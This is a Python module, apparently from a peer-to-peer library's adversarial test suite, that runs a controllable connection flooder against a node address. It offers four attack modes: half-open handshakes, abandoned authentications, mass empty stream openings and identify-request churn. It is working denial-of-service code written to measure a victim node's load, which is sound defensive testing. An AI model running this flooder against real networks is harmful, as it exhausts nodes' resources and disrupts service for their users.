"""A flooder in a process of its own: so many connections a second of one kind, while it is told to.

Run as a program with an address, a kind and a rate; it reads lines on stdin: "go", "stop". It says
how many it has made when stdin ends.
"""

from __future__ import annotations

import os
import sys
from collections import deque
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress

import trio
from hostile.attackers import (
    DATA,
    FIN,
    SYN,
    WINDOW,
    Attacker,
    End,
    Wire,
    agree_on_noise,
    dial,
    frame,
    handshake_of,
    secure,
)
from hostile.processes import Child, child

from swarmpy.abc import Address
from swarmpy.errors import RemoteProtocolError
from swarmpy.proto.multistream import Dialer

HELD_MAX = 1000
"""Half-open connections one flooder holds; beyond it the oldest are closed."""

STREAMS = 3000
AT_ONCE = 60
TICK_S = 0.02
"""How often connections are made: at a rate of 167 a second three or four at a time."""


async def begin(wire: Wire, name: str) -> None:
    """Say the first handshake message, and nothing after the answer."""
    await agree_on_noise(wire)
    await wire.send_message(handshake_of(name).start())
    await wire.receive_message()


async def prove(wire: Wire, name: str) -> None:
    """Prove an identity, be asked who it is, and go away."""
    await secure(wire, name)
    wire.abort()


async def stream(wire: Wire, name: str) -> None:
    """Open 3,000 streams and propose nothing on them."""
    peer = Attacker(await secure(wire, name))
    opened = b"".join(frame(WINDOW, SYN, peer.next_id(), 0) for _ in range(STREAMS))
    await peer.secure.send(opened)
    await wire.wait_end()


async def churn(wire: Wire, name: str) -> None:
    """Ask 3,000 times who the node is, on as many streams: never more at a time than one may."""
    peer = Attacker(await secure(wire, name))
    proposal = Dialer(["/ipfs/id/1.0.0"]).start()
    async with trio.open_nursery() as nursery:
        nursery.start_soon(peer.run)
        with suppress(End):
            for _ in range(STREAMS // AT_ONCE):
                ids = [peer.next_id() for _ in range(AT_ONCE)]
                opened = [frame(DATA, SYN | FIN, item, len(proposal), proposal) for item in ids]
                await peer.secure.send(b"".join(opened))
                for stream_id in ids:
                    await peer.wait_ended(stream_id)
        nursery.cancel_scope.cancel()


KINDS = {
    "begin": begin,
    "prove": prove,
    "stream": stream,
    "churn": churn,
}


class Flood:
    """Makes connections while it is told to."""

    def __init__(self, address: Address, kind: str, rate: float) -> None:
        self._address = address
        self._attack = KINDS[kind]
        self._rate = rate
        self._held: deque[Wire] = deque()
        self._going = trio.Event()
        self.count = 0

    def obey(self, command: str) -> None:
        """Go, or stop and let go of everything."""
        if command == "go":
            self._going.set()
        else:
            if self._going.is_set():
                self._going = trio.Event()
            while self._held:
                self._held.popleft().close()

    async def run(self) -> None:
        """Make connections at the rate, as far as this machine can."""
        async with trio.open_nursery() as nursery:
            while True:
                await self._going.wait()
                due = trio.current_time()
                owed = 1.0
                while self._going.is_set():
                    while owed >= 1.0:
                        owed -= 1.0
                        nursery.start_soon(self._once)
                    owed += self._rate * TICK_S
                    due += TICK_S
                    await trio.sleep_until(due)

    async def _once(self) -> None:
        self.count += 1
        try:
            wire = await dial(self._address)
        except OSError:
            return
        self._held.append(wire)
        if len(self._held) > HELD_MAX:
            self._held.popleft().close()
        with suppress(End, RemoteProtocolError):
            await self._attack(wire, f"flooder {self.count}")


async def main(address: str, kind: str, rate: str) -> None:
    """Flood until stdin ends."""
    os.nice(10)  # what is measured is the victim's work, not the attacker's share of the machine
    flood = Flood(Address(address), kind, float(rate))
    async with trio.open_nursery() as nursery:
        nursery.start_soon(flood.run)
        print("ready", flush=True)
        async for data in trio.lowlevel.FdStream(os.dup(0)):
            for command in data.decode().split():
                flood.obey(command)
                print(flood.count, flush=True)
        nursery.cancel_scope.cancel()


@asynccontextmanager
async def flood(address: Address, kind: str, rate: float) -> AsyncIterator[Child]:
    """Run a flooder; it waits for "go"."""
    async with child("hostile.flood", address, kind, str(rate)) as made:
        assert await made.line() == "ready"
        yield made


if __name__ == "__main__":
    trio.run(main, *sys.argv[1:])
